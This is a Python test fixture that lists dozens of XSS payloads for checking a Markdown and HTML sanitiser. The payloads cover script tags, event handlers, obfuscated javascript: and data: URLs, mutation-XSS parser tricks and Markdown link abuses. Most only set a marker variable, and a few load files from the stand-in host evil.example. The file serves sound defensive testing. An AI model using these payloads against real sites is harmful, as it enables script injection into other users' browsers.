"""XSS payloads that instructors' Markdown (or a user's name) might carry.

Every payload, if it ran, would set ``window.__xss`` (or ``parent.__xss`` from a frame) or
open a dialog: the browser tests look for exactly that. The unit tests check the
sanitiser's output for the constructs that could run at all.

``PAYLOADS`` maps an id to the text. ``ONE_LINE`` are the ids whose text fits on one
line and holds no ``->`` (so it can be an option label or a quiz choice).
"""

from __future__ import annotations

SET = "window.__xss=1"

PAYLOADS: dict[str, str] = {
    # script elements
    "script": f"<script>{SET}</script>",
    "script-upper-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-in-svg": f"<svg><script>{SET}</script></svg>",
    # event handlers
    "img-onerror": f'<img src=x onerror="{SET}">',
    "img-onerror-slashes": f"<img/src/onerror={SET}>",
    "svg-onload": f'<svg onload="{SET}"></svg>',
    "svg-animate": f'<svg><animate onbegin="{SET}" attributeName=x dur=1s></animate></svg>',
    "details-ontoggle": f'<details open ontoggle="{SET}"><summary>x</summary></details>',
    "body-onload": f'<body onload="{SET}">',
    "input-autofocus": f'<input autofocus onfocus="{SET}">',
    "custom-onclick": f"<x-note onclick={SET}>click me</x-note>",
    "link-onclick": f'<a href="https://example.org/" onclick="{SET}; return false">a link</a>',
    "onmouseover-title": f'[hover](https://example.org/ "t\\" onmouseover=\\"{SET}")',
    "alert-dialog": "<img src=x onerror=alert(1)>",
    # javascript:, vbscript: and data: URLs in HTML
    "a-javascript": f'<a href="javascript:{SET}">click</a>',
    "a-javascript-entity": f'<a href="&#106;avascript:{SET}">click</a>',
    "a-javascript-tab": f'<a href="jav&#x09;ascript:{SET}">click</a>',
    "a-javascript-newline": f'<a href="java&#10;script:{SET}">click</a>',
    "a-javascript-colon-entity": f'<a href="javascript&colon;{SET}">click</a>',
    "a-javascript-leading-space": f'<a href="  javascript:{SET}">click</a>',
    "a-javascript-control-char": f'<a href="&#1;javascript:{SET}">click</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">click</a>',
    "a-data-html": f'<a href="data:text/html,<script>{SET}</script>">click</a>',
    "a-data-base64": '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">click</a>',
    "img-javascript": f'<img src="javascript:{SET}">',
    "img-data-svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    "svg-xlink": f'<svg><a xlink:href="javascript:{SET}"><text x=20 y=20>click</text></a></svg>',
    "math-href": f'<math href="javascript:{SET}">click</math>',
    "math-maction": f'<math><maction actiontype="statusline" xlink:href="javascript:{SET}">click</maction></math>',
    # frames, objects, embedding
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:parent.__xss=1"></iframe>',
    "object-data": f'<object data="javascript:{SET}"></object>',
    "embed-data": '<embed src="data:text/html,<script>parent.__xss=1</script>">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{SET}">',
    "base-href": '<base href="javascript:/">',
    "link-stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
    # forms and styles
    "form-action": f'<form action="javascript:{SET}"><button>go</button></form>',
    "button-formaction": f'<form><button formaction="javascript:{SET}">go</button></form>',
    "style-element": '<style>*{background:url("//evil.example/x.png")}</style>',
    "style-attribute": f'<p style="background:url(javascript:{SET})">styled</p>',
    # malformed markup and parser differentials (mXSS)
    "nested-script": f"<scr<script>ipt>{SET}</scr</script>ipt>",
    "double-open": f"<<script>script>{SET}<</script>/script>",
    "comment-breakout": f'<!--<img src="--><img src=x onerror="{SET}">',
    "quote-breakout": f'<img """><script>{SET}</script>">',
    "noscript-title": f'<noscript><p title="</noscript><img src=x onerror={SET}>"></noscript>',
    "math-mglyph-style": f'<math><mtext><table><mglyph><style><img src=x onerror="{SET}"></style></mglyph></table></mtext></math>',
    "textarea-breakout": f'<textarea></textarea><img src=x onerror="{SET}">',
    "template": f"<template><img src=x onerror={SET}></template>",
    "unclosed-attribute": f'<img src="x onerror={SET}',
    # Markdown link and image tricks
    "md-link-javascript": f"[click](javascript:{SET})",
    "md-link-upper": f"[click](JAVASCRIPT:{SET})",
    "md-link-angle": f"[click](<javascript:{SET}>)",
    "md-link-spaces": f"[click](  javascript:{SET}  )",
    "md-link-entity": f"[click](&#106;avascript:{SET})",
    "md-link-data": "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "md-link-vbscript": "[click](vbscript:msgbox)",
    "md-autolink": f"<javascript:{SET}>",
    "md-image-javascript": f"![x](javascript:{SET})",
    "md-image-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "md-image-alt-breakout": f'![x" onerror="{SET}](x)',
    "md-image-src-breakout": f'![x](x" onerror="{SET})',
    "md-reference": f"[click][evil]\n\n[evil]: javascript:{SET}",
    "md-table-cell": f"| a |\n|:--|\n| <img src=x onerror={SET}> |",
    "md-code-span": f"`<img src=x onerror={SET}>`",
    "md-emphasis-html": f"*<img src=x onerror={SET}>*",
}

#: Payloads that Markdown itself turns into escaped text or a quoted attribute value, so
#: the sanitiser has nothing to remove (and the linter nothing to flag).
INERT = {
    "custom-onclick",
    "md-code-span",
    "md-emphasis-html",
    "md-image-alt-breakout",
    "md-image-src-breakout",
    "md-table-cell",
    "onmouseover-title",
    "unclosed-attribute",
}

ONE_LINE = tuple(name for name, text in PAYLOADS.items() if "\n" not in text and "->" not in text)
